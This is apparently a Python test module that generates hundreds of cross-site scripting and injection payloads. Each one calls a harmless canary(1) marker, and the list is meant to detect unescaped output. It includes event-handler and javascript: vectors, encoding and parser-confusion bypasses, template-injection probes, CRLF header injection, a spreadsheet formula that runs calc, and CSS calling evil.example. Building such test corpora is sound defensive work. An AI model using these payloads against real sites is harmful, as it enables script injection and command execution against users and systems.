"""Hundreds of texts that would run, or would be a part of the page, wherever a page forgot to escape them.

Each runs `canary(...)`, and each element it would make carries the attribute `vx`: so that both can be found.
"""

from __future__ import annotations

from itertools import product

CALL = "canary(1)"

TAGS = (
    *("<img vx src=x onerror={}>", "<svg vx onload={}>", "<body vx onload={}>", "<iframe vx onload={}></iframe>"),
    *("<video vx src=x onerror={}></video>", "<audio vx src=x onerror={}></audio>", "<input vx autofocus onfocus={}>"),
    *(
        "<video vx><source onerror={}></video>",
        "<details vx open ontoggle={}>x</details>",
        "<object vx data=x onerror={}>",
    ),
    *("<script vx>{}</script>", "<script vx src='data:text/javascript,{}'></script>", "<embed vx src=javascript:{}>"),
    *("<iframe vx src=javascript:{}></iframe>", "<iframe vx srcdoc='<script>parent.{}</script>'></iframe>"),
    *("<a vx href=javascript:{} id=vx>x</a>", "<form vx action=javascript:{}><button>x</button></form>"),
    *("<button vx form=f formaction=javascript:{}>x</button>", "<isindex vx action=javascript:{} type=image>"),
    *(
        "<math vx href=javascript:{}>x</math>",
        "<math><maction vx actiontype=statusline xlink:href=javascript:{}>x</math>",
    ),
    *("<svg><script vx>{}</script></svg>", "<svg><a vx xlink:href=javascript:{}><text>x</text></a></svg>"),
    *("<svg><animate vx onbegin={} attributeName=x dur=1s>", "<svg><set vx attributeName=href to=javascript:{} />"),
    *("<svg><use vx href='data:image/svg+xml,<svg onload={}>#x'></svg>", "<svg><foreignObject><img vx src onerror={}>"),
    *(
        "<marquee vx onstart={}>x</marquee>",
        "<style vx onload={}></style>",
        "<link vx rel=stylesheet href=x onerror={}>",
    ),
    *("<meta vx http-equiv=refresh content='0;url=javascript:{}'>", "<base vx href=javascript:{}//>"),
    *(
        "<select vx autofocus onfocus={}></select>",
        "<textarea vx autofocus onfocus={}></textarea>",
        "<keygen vx onfocus={}>",
    ),
    *(
        "<div vx style='animation:x' onanimationstart={}>",
        "<div vx style=width:expression({})>",
        "<x vx onclick={}>x</x>",
    ),
    *(
        "<dialog vx open onclose={}>x</dialog>",
        "<img vx srcset=x onerror={}>",
        "<picture><img vx src=x onerror={}></picture>",
    ),
    *("<template><img vx src=x onerror={}></template>", "<portal vx src=javascript:{}>", "<frameset vx onload={}>"),
    *("<input vx type=image src=x onerror={}>", "<track vx src=x onerror={}>", "<bgsound vx src=javascript:{}>"),
)

OUT_OF = (
    *("", '">', "'>", '"/>', "</title>", "</textarea>", "</script>", "</style>", "</option></select>", "-->", "]]>"),
    *("</h1></main>", "</text></svg>"),
)
"""What ends the place that the text was put into."""

ALONE = (
    *('" onmouseover={} vx="', "' onmouseover={} vx='", '" autofocus onfocus={} vx="', "' autofocus onfocus={} vx='"),
    *(
        " onfocus={} autofocus vx ",
        '"onpointerover="{}" vx="',
        "` onmouseover={} vx=`",
        '\\" onfocus={} autofocus vx=\\"',
    ),
    *(
        "javascript:{}",
        "JaVaScRiPt:{}",
        "java\tscript:{}",
        "java\nscript:{}",
        "&#106;avascript:{}",
        "javascript&colon;{}",
    ),
    *(
        "data:text/html,<script vx>{}</script>",
        "vbscript:{}",
        "\x01javascript:{}",
        "//evil.example/{}",
        "https:evil.example",
    ),
    *("{{{{constructor.constructor('{}')()}}}}", "{{{{ self.__init__.__globals__ }}}}", "{{% import os %}}", "${{{}}}"),
    *(
        "#{{{}}}",
        "<%= {} %>",
        "[[${{{}}}]]",
        "{{{{7*7}}}}",
        "{{n}}",
        "{{0.__class__}}",
        "{{title.__globals__}}",
        "%(x)s %s %n",
    ),
    *("';{};//", '";{};//', "`;{};//", "\\';{};//", '\\";{};//', "</script><script vx>{}</script>", "\u2028{}\u2029"),
    *(
        "*/{}/*",
        "//\n{}",
        "1;{}",
        "');{};//",
        "\\u003cimg vx src=x onerror={}\\u003e",
        "\\x3cimg vx src=x onerror={}\\x3e",
    ),
    *(
        "&lt;img vx src=x onerror={}&gt;",
        "&amp;lt;img vx src=x onerror={}&amp;gt;",
        "&#60;img vx src=x onerror={}&#62;",
    ),
    *("&#x3c;img vx src=x onerror={}&#x3e;", "%3Cimg vx src=x onerror={}%3E", "%253Cimg vx src=x onerror={}%253E"),
    *(
        "\uff1cimg vx src=x onerror={}\uff1e",
        "\u02c2img vx src=x onerror={}\u02c3",
        "\u2039img vx src=x onerror={}\u203a",
    ),
    *("+ADw-img vx src=x onerror={}+AD4-", "\xbcimg vx src=x onerror={}\xbe", "<\u0131mg vx src=x onerror={}>"),
    *(
        "<img/vx/src=x/onerror={}>",
        "<img\tvx\tsrc=x\tonerror={}>",
        "<img\nvx\nsrc=x\nonerror={}>",
        "<IMG VX SRC=X ONERROR={}>",
    ),
    *(
        "<img vx src=x onerror='{}'",
        '<img vx src=x onerror="{}" ',
        "<img vx src=`x`onerror={}>",
        "<<img vx src=x onerror={}>",
    ),
    *(
        "<img vx src=x onerror=\x00{}>",
        "<im\x00g vx src=x onerror={}>",
        "<\x00img vx src=x onerror={}>",
        "<img vx src=x one\x00rror={}>",
    ),
    *(
        "\u202e<img vx src=x onerror={}>\u202c",
        "\u2066<svg vx onload={}>\u2069",
        "\u200b<svg vx onload={}>",
        "\ufeff<svg vx onload={}>",
    ),
    *(
        "<scr<script>ipt vx>{}</scr</script>ipt>",
        "<script vx\x0c>{}</script>",
        "<script vx>{}//",
        "<script/vx>{}</script/>",
    ),
    *(
        "<!--><img vx src=x onerror={}>-->",
        "<!--<img src='--><img vx src=x onerror={}>'>",
        "<![CDATA[><img vx src=x onerror={}>]]>",
    ),
    *(
        "<noscript><p title='</noscript><img vx src=x onerror={}>'>",
        "<math><mtext><table><mglyph><style><img vx src=x onerror={}>",
    ),
    *(
        "<form><math><mtext></form><form><mglyph><style></math><img vx src onerror={}>",
        "<xmp><img vx title='</xmp><img src onerror={}>'>",
    ),
    *("<svg></p><style><a id='</style><img vx src=1 onerror={}>'>", "<table><td background=javascript:{} vx>x</table>"),
    *(
        "<style vx>@import'javascript:{}';</style>",
        "<style vx>*{{background:url(//evil.example)}}</style>",
        "}} body{{display:none}}/*{}",
    ),
    *(
        "url(javascript:{})",
        "expression({})",
        "-moz-binding:url(//evil.example/x#{})",
        "<xss vx id=x tabindex=1 onfocus={}></xss>",
    ),
    *(
        "\x1b[31m{}\x1b[0m",
        "\r\nSet-Cookie: vx=1\r\n\r\n<svg vx onload={}>",
        "=cmd|'/c calc'!A1 {}",
        "@SUM(1+1)*{}",
        "\ud83c\udf19" * 3,
    ),
    *(
        "x" * 150 + "<svg vx onload={}>",
        "<" * 90 + "svg vx onload={}>",
        "<svg vx onload={}>" * 4,
        '"' * 99 + "><svg vx onload={}>",
    ),
    *(
        "<a name=vx id=document vx>x</a>",
        "<form name=vx id=body vx>x</form>",
        "<img name=getElementById vx>",
        "__proto__",
        "constructor",
    ),
)
"""Of attributes, addresses, templates, scripts, styles, character sets, headers, tables, and of quarrels of parsers."""


def _filled(text: str) -> str:
    """With the call in it; a text that is no pattern stays as it is."""
    try:
        return text.format(CALL)
    except (ValueError, KeyError, IndexError):
        return text.replace("{}", CALL)


PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [out + _filled(tag) for tag, out in product(TAGS, OUT_OF)]
        + [_filled(text).encode("utf-16", "surrogatepass").decode("utf-16", "replace") for text in ALONE]
    )
)

SHORT = ("<b vx>", '"vx', "<svg vx onload=canary(1)>", "'><b vx>", "<img vx src onerror=canary(1)>", "{{7*7}}", "</a>")
"""For what holds forty letters."""
